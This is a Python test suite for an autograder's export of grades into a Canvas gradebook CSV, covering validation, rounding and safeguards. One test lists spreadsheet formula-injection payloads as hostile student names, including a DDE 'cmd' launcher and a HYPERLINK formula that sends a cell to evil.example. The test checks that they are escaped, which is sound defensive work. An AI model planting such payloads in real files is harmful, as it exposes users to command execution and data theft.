import csv
import io
import math
import re
from collections.abc import Sequence
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st
from msgspec.structs import replace

from autograder.bundle import Manifest, Question
from autograder.canvas import export as made
from autograder.canvas.export import Changes, Choices, export, write
from autograder.canvas.importer import imported
from autograder.canvas.threeway import grade_text
from autograder.errors import ExportError
from autograder.gradebook import Gradebook, parse
from autograder.grades import Rules, grades
from autograder.model import Standing, Student, Verdict

HEADER = "Student,ID,SIS User ID,SIS Login ID,Section,Notes,Lab (11),CNNs (12),Final Score"
POSTING = ",,,,,,Manual Posting,Manual Posting (verborgen),"
ROWS = [
    POSTING,
    "    Points Possible,,,,,,5,10.00,(read only)",
    '"Lovelace, Ada",101,0123456,ada,"S1 and S2",hi,5,,90',
    '"="" =SUM(1)""",102,,bob,S1,,5,,90',
    '"O\'Brien ""AJ"", 王",103,S-3,eve,S1,,EX,EX,90',
    '"Haugen, Ingrid",104,,ih,S1,,4,N/A,80',
    '"Student, Test",999,,a1b2c3,S1,,,,',
]
POINTS, ADA, BOB = ROWS[1:4]
ADAS = Student(id="101", name="Lovelace, Ada", login="ada", sis_id="0123456")
MANIFEST = Manifest(name="cnn", title="CNNs", notebook="cnn.ipynb", otter_zip="x.zip",
                    questions=[Question(name="q1", points=10)])  # fmt: skip
NAMES = {"101": "Lovelace, Ada", "102": " =SUM(1)", "103": 'O\'Brien "AJ", 王',
         "104": "Haugen, Ingrid"}  # fmt: skip


def book(*rows: str, header: str = HEADER) -> Gradebook:
    return parse(("\n".join([header, *(rows or ROWS)]) + "\n").encode())


def verdict(student: str, score: float = 8.5, **more: Any) -> Verdict:
    fields = {"name": NAMES.get(student, "?"), "status": Standing.GRADED} | more
    return Verdict(student=student, assignment="cnn", score=score, possible=10,
                   seconds=1, questions={}, **{"isolation": "A", **fields})  # fmt: skip


def changes(
    gradebook: Gradebook, assignment: str, verdicts: list[Verdict], manifest: Manifest,
    roster: Sequence[Student] = (), **choices: Any,
) -> Changes:  # fmt: skip
    counted = grades(verdicts, Rules())
    return made.changes(gradebook, assignment, counted, manifest, Choices(**choices),
                        roster=roster)  # fmt: skip


def rows_of(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode())))


def test_the_file_holds_identity_the_points_and_one_row_for_each_grade() -> None:
    gradebook = book()
    data = export(
        gradebook, changes(gradebook, "12", [verdict("102"), verdict("101", 10)], MANIFEST)
    )
    assert rows_of(data) == [
        ["Student", "ID", "SIS User ID", "SIS Login ID", "Section", "CNNs (12)"],
        ["    Points Possible", "", "", "", "", "10.00"],
        ["Lovelace, Ada", "101", "0123456", "ada", "S1 and S2", "10"],
        ['\'=" =SUM(1)"', "102", "", "bob", "S1", "8.5"],
    ]
    assert not data.startswith(b"\xef\xbb\xbf") and b"\r" not in data and data.endswith(b"\n")


def test_what_changes_is_told_from_what_stays() -> None:
    gradebook = book(POSTING, POINTS, ADA, BOB.replace(",5,,", ",5,7.50,"))
    plan = changes(gradebook, "CNNs", [verdict("101", 3), verdict("102", 7.5)], MANIFEST)
    assert [(row.student.name, row.before, row.after) for row in plan.changed] == [
        ("Lovelace, Ada", "", "3")
    ]
    assert [row.after for row in plan.rows] == ["3", "7.5"]
    assert [row[1] for row in rows_of(export(gradebook, plan))[2:]] == ["101"]


@pytest.mark.parametrize("assignment", ["12", "CNNs", "CNNs (12)"])
def test_the_column_may_be_named_in_three_ways(assignment: str) -> None:
    assert changes(book(), assignment, [], MANIFEST).column.id == "12"


def test_excused_and_unassigned_students_are_left_out_and_listed() -> None:
    plan = changes(book(), "12", [verdict("103"), verdict("104")], MANIFEST)
    assert plan.rows == []
    assert [(one.student, one.reason.split()[1]) for one in plan.left_out] == [
        ("103", "excused"), ("104", "assignment"),
    ]  # fmt: skip


@pytest.mark.parametrize("status", [Standing.UNREADABLE, Standing.GRADER_ERROR])
def test_nothing_is_written_for_who_was_not_graded(status: Standing) -> None:
    plan = changes(book(), "12", [verdict("101", 0, status=status), verdict("102")], MANIFEST)
    assert [row.student.id for row in plan.rows] == ["102"]
    assert plan.left_out[0].student == "101"


def test_members_of_a_team_with_different_points_are_left_out() -> None:
    for points, written in ((8.5, ["101", "102"]), (7, [])):
        graded = [verdict("101", team="Blue (a; b)"), verdict("102", points, team="Blue (a; b)")]
        plan = changes(book(), "12", [*graded, verdict("103")], MANIFEST)
        assert [row.student.id for row in plan.rows] == written
        assert "grades the group as one" in plan.left_out[0].reason or written


def test_with_no_grade_there_is_no_file() -> None:
    with pytest.raises(ExportError, match="no grade"):
        export(book(), changes(book(), "12", [], MANIFEST))


@given(st.floats(0, 1e6))
def test_grades_are_plain_numbers_as_canvas_wants_them(score: float) -> None:
    text = grade_text(score)
    assert re.fullmatch(r"\d+(\.\d{1,2})?", text)
    assert math.isclose(float(text), score, abs_tol=0.00501)


@pytest.mark.parametrize(
    ("score", "text"), [(0, "0"), (10, "10"), (100, "100"), (2.675, "2.68"), (1 / 3, "0.33"),
                        (8.5, "8.5"), (0.004, "0"), (-0.0, "0")]
)  # fmt: skip
def test_grades_are_rounded_half_up_without_trailing_zeros(score: float, text: str) -> None:
    assert grade_text(score) == text


@pytest.mark.parametrize("score", [math.nan, math.inf, -1, -0.01])
def test_what_is_no_grade_is_refused(score: float) -> None:
    with pytest.raises(ExportError, match="cannot be written"):
        grade_text(score)


def test_differing_points_and_high_scores_are_warned_of() -> None:
    worth_12 = Manifest(name="cnn", title="CNNs", notebook="cnn.ipynb", otter_zip="x.zip",
                        questions=[Question(name="q1", points=12)])  # fmt: skip
    plan = changes(book(), "12", [verdict("101", 12), verdict("102")], worth_12)
    said = "\n".join(plan.warnings)
    assert "worth 10.00" in said and "worth 12" in said
    assert "Above the points possible in Canvas: Lovelace, Ada." in said
    assert "formula have an apostrophe in front in the file:  =SUM(1)." in said


def test_that_grades_are_seen_at_once_is_warned_of() -> None:
    (warning,) = changes(book(*ROWS[1:]), "12", [verdict("101")], MANIFEST).warnings
    assert "Students will see 'CNNs (12)' as soon as it is saved" in warning


def test_a_plain_class_is_warned_of_nothing() -> None:
    assert changes(book(), "12", [verdict("101")], MANIFEST).warnings == []


@pytest.mark.parametrize(
    ("rows", "header", "says"),
    [
        ([ADA, ADA], HEADER, "another row has too"),
        ([ADA.replace("101", "1.01E+14")], HEADER, "no Canvas user id"),
        ([BOB], HEADER, "not in gradebook.csv"),
        ([ADA.replace("Lovelace", "Okafor")], HEADER, "was graded as"),
        ([ADA.replace("0123456", "1.2.3")], HEADER, "SIS User ID '1.2.3'"),
        ([ADA.replace(",ada,", ',"10,20,30",')], HEADER, "SIS Login ID '10,20,30'"),
        ([ADA], HEADER.replace("Lab (11)", "CNNs (12)"), "two columns"),
        ([ADA], HEADER.replace("Notes", "CNNs (12)"), "two columns"),
        ([ADA], HEADER.replace("CNNs (12)", "CNNs (13)"), "has no assignment"),
        ([ADA], HEADER.replace("Lab (11)", "12 (11)"), "Several columns"),
        ([POINTS.replace("10.00", "(read only)"), ADA], HEADER, "read only"),
        ([POINTS.replace("10.00", "10. Mai"), ADA], HEADER, "no number"),
        ([POINTS.replace(",5,10.00", ",,"), ADA], HEADER, "columns for notes"),
        ([ADA.replace(",0123456,", ",123456,")], HEADER, "has dropped its zeros"),
        ([ADA.replace(",ada,", ",12-Mar,")], HEADER, "'12-Mar' in gradebook.csv and 'ada'"),
        ([ADA.replace(",0123456,", ',"1,5E+14",')], HEADER, "made of another number"),
        ([ADA, BOB.replace(",bob,", ",ADA,")], HEADER, "SIS Login ID 'ADA', which another row"),
        ([ADA.replace("hi,5,,", "hi,5,2027-03-12,")], HEADER, "no number of points"),
        ([ADA, BOB.replace(",5,,", ",5,B+,")], HEADER, "'B+' in 'CNNs (12)'"),
    ],
)
def test_a_gradebook_that_would_be_damaged_is_refused(
    rows: list[str], header: str, says: str
) -> None:
    with pytest.raises(ExportError, match=re.escape(says)) as caught:
        changes(book(*rows, header=header), "12", [verdict("101")], MANIFEST, [ADAS])
    assert str(caught.value).endswith(".") and "\n" not in str(caught.value)


@pytest.mark.parametrize("named", ["12", "Final Grade Project", "Final Grade Project (12)"])
def test_an_assignment_whose_title_canvas_takes_for_a_total_is_refused(named: str) -> None:
    header = HEADER.replace("CNNs (12)", "Final Grade Project (12)")
    with pytest.raises(ExportError, match="for a total"):
        changes(book(header=header), named, [verdict("101")], MANIFEST)


def test_a_gradebook_of_another_course_is_refused_as_such() -> None:
    graded = [verdict(str(id_), name="?") for id_ in (101, 701, 702)]
    with pytest.raises(ExportError, match="2 of the 3 students who were graded are not in"):
        changes(book(ADA), "12", graded, MANIFEST, renamed=["101"])


def test_one_student_who_has_left_can_be_left_out() -> None:
    graded = [verdict("101"), verdict("102"), verdict("777", name="Gone, Al")]
    with pytest.raises(ExportError, match=r"Gone, Al \(ID 777\).*--leave-out 777"):
        changes(book(), "12", graded, MANIFEST)
    assert len(changes(book(), "12", graded, MANIFEST, leave_out=["777"]).rows) == 2


def test_a_changed_login_is_allowed_by_name() -> None:
    changed = book(ADA.replace(",ada,", ",ada.king,"))
    with pytest.raises(ExportError, match="--renamed 101"):
        changes(changed, "12", [verdict("101")], MANIFEST, [ADAS])
    assert changes(changed, "12", [verdict("101")], MANIFEST, [ADAS], renamed=["101"]).rows


def test_namesakes_whose_ids_changed_places_are_told_by_their_logins() -> None:
    roster = [Student(id="201", name="Li, Wei", login="lw1"),
              Student(id="202", name="Li, Wei", login="lw2")]  # fmt: skip
    rows = [POINTS, '"Li, Wei",202,,lw1,S1,,5,,', '"Li, Wei",201,,lw2,S1,,5,,']
    with pytest.raises(ExportError, match=r"'lw2' in gradebook\.csv and 'lw1' in the roster"):
        changes(book(*rows), "12", [verdict("201", name="Li, Wei")], MANIFEST, roster)


def test_ids_without_a_column_are_not_compared() -> None:
    plain = book('"Lovelace, Ada",101,S1,', header="Student,ID,Section,CNNs (12)")
    assert changes(plain, "12", [verdict("101")], MANIFEST, [ADAS]).rows


def test_where_nothing_changes_no_file_is_made() -> None:
    gradebook = book(POSTING, POINTS, BOB.replace(",5,,", ",5,8.5,"))
    plan = changes(gradebook, "12", [verdict("102")], MANIFEST)
    assert plan.rows and not plan.changed
    with pytest.raises(ExportError, match="every grade of 'CNNs \\(12\\)' already"):
        export(gradebook, plan)


def test_two_verdicts_of_one_student_are_refused() -> None:
    with pytest.raises(ExportError, match="two verdicts"):
        made.changes(book(), "12", grades([verdict("101")], Rules()) * 2, MANIFEST)


def test_students_may_be_left_out_and_may_have_new_names() -> None:
    wrong = [verdict("101", name="Byron, Ada"), verdict("777"), verdict("102")]
    plan = changes(book(), "12", wrong, MANIFEST, leave_out=["777"], renamed=["101"])
    assert [row.student.id for row in plan.rows] == ["101", "102"]


def test_an_identity_layout_that_canvas_does_not_import_is_refused() -> None:
    gradebook = book(
        '"Lovelace, Ada",101,S-1,S,', header="Student,ID,SIS User ID,Section,CNNs (12)"
    )
    with pytest.raises(ExportError, match="Invalid header row"):
        export(gradebook, changes(gradebook, "12", [verdict("101")], MANIFEST))


def test_a_title_that_canvas_would_misread_is_refused() -> None:
    gradebook = book(*ROWS, header=HEADER.replace("CNNs (12)", '"C\rNNs (12)"'))
    with pytest.raises(ExportError, match="line ends"):
        export(gradebook, changes(gradebook, "12", [verdict("101")], MANIFEST))


@pytest.mark.parametrize("after", ["1,234", "8.", "12,5"])
def test_a_grade_that_canvas_would_read_as_another_is_refused(after: str) -> None:
    gradebook = book()
    plan = changes(gradebook, "12", [verdict("101")], MANIFEST)
    wrong = replace(plan, rows=[replace(plan.rows[0], after=after)])
    with pytest.raises(ExportError, match="other grades"):
        export(gradebook, wrong)


def test_every_identity_layout_and_a_semicolon_file_are_exported() -> None:
    for header, row in [
        ("Student;ID;Section;CNNs (12)", "Lovelace, Ada;101;S1;"),
        ("Student;ID;SIS Login ID;Section;CNNs (12)", "Lovelace, Ada;101;ada;S1;"),
        ("LastName;FirstName;ID;SIS Login ID;Section;CNNs (12)", "Lovelace;Ada;101;ada;S1;"),
    ]:
        gradebook = book(
            "    Points Possible" + ";" * (header.count(";")) + "10,5", row, header=header
        )
        data = export(gradebook, changes(gradebook, "12", [verdict("101")], MANIFEST))
        found = imported(data)
        assert found.grades == {101: {"12": "8.5"}} and found.points == {"12": "10.5"}


@given(
    st.text(st.characters(exclude_categories=["Cs", "Cc"]), min_size=1).filter(
        lambda name: name.strip() and "Points Possible" not in name
    ),
    st.floats(0, 100),
)
def test_whatever_the_name_canvas_reads_the_grade_that_was_meant(name: str, score: float) -> None:
    out = io.StringIO(newline="")
    rows = [["Student", "ID", "Section", "CNNs (12)"], [name, "101", "S", ""]]
    csv.writer(out, lineterminator="\n").writerows(rows)
    gradebook = parse(out.getvalue().encode())
    known = gradebook.students[0].name
    data = export(
        gradebook, changes(gradebook, "12", [verdict("101", score, name=known)], MANIFEST)
    )
    assert imported(data).grades == {101: {"12": grade_text(score)}}
    assert rows_of(data)[1][0] in {name, f"'{name}"}
    assert not re.match(r"\s*[=+\-@]|[\t\r\n]", rows_of(data)[1][0])


@pytest.mark.parametrize(
    "evil",
    ["=1+1", "+1+1", "-1+1", "@SUM(1)", "\t=1+1", " =1+1", '="x"&cmd|\'/C calc\'!A0', "＝1+1",
     '=HYPERLINK("http://evil.example/?"&B2)', "-", "+49 170"],
)  # fmt: skip
def test_no_text_column_holds_a_formula_and_ids_and_grades_stay_numbers(evil: str) -> None:
    out = io.StringIO(newline="")
    header = ["Student", "ID", "SIS User ID", "SIS Login ID", "Section", "CNNs (12)"]
    csv.writer(out).writerows([header, [evil, "101", f"{evil}x", evil, evil, "-"]])
    gradebook = parse(out.getvalue().encode())
    name = gradebook.students[0].name
    plan = changes(gradebook, "12", [verdict("101", 7.5, name=name)], MANIFEST)
    data = export(gradebook, plan)
    assert rows_of(data)[1] == [f"'{evil}", "101", f"'{evil}x", f"'{evil}", f"'{evil}", "7.5"]
    assert imported(data).grades == {101: {"12": "7.5"}}
    assert any("apostrophe" in warning for warning in plan.warnings)


def test_grades_given_without_isolation_need_a_second_confirmation() -> None:
    graded = [verdict("101", isolation="0"), verdict("102")]
    with pytest.raises(ExportError, match=r"Lovelace, Ada \(101\).*--confirm-unsealed") as caught:
        changes(book(), "12", graded, MANIFEST)
    assert "102" not in str(caught.value)
    plan = changes(book(), "12", graded, MANIFEST, unsealed=True)
    assert [row.student.id for row in plan.rows] == ["101", "102"]
    assert "1 of these grades were given at isolation level 0." in plan.warnings


def test_an_unsealed_verdict_that_is_not_written_needs_no_confirmation() -> None:
    excused = verdict("103", isolation="0")
    unreadable = verdict("101", 0, isolation="0", status=Standing.UNREADABLE)
    assert changes(book(), "12", [excused, unreadable, verdict("102")], MANIFEST).rows
    assert changes(book(), "12", [verdict("101", isolation="0")], MANIFEST, leave_out=["101"])


@pytest.mark.parametrize("level", ["A-", "B"])
def test_less_than_full_isolation_is_warned_of(level: str) -> None:
    (warning,) = changes(book(), "12", [verdict("101", isolation=level)], MANIFEST).warnings
    assert warning == f"1 of these grades were given at isolation level {level}."


def test_the_file_is_written_whole_or_not_at_all(tmp_path: Path) -> None:
    gradebook = book()
    write(gradebook, changes(gradebook, "12", [verdict("101")], MANIFEST), tmp_path / "out.csv")
    assert b"8.5" in (tmp_path / "out.csv").read_bytes()
    with pytest.raises(ExportError, match="cannot be written"):
        write(
            gradebook, changes(gradebook, "12", [verdict("101")], MANIFEST), tmp_path / "out.csv/x"
        )
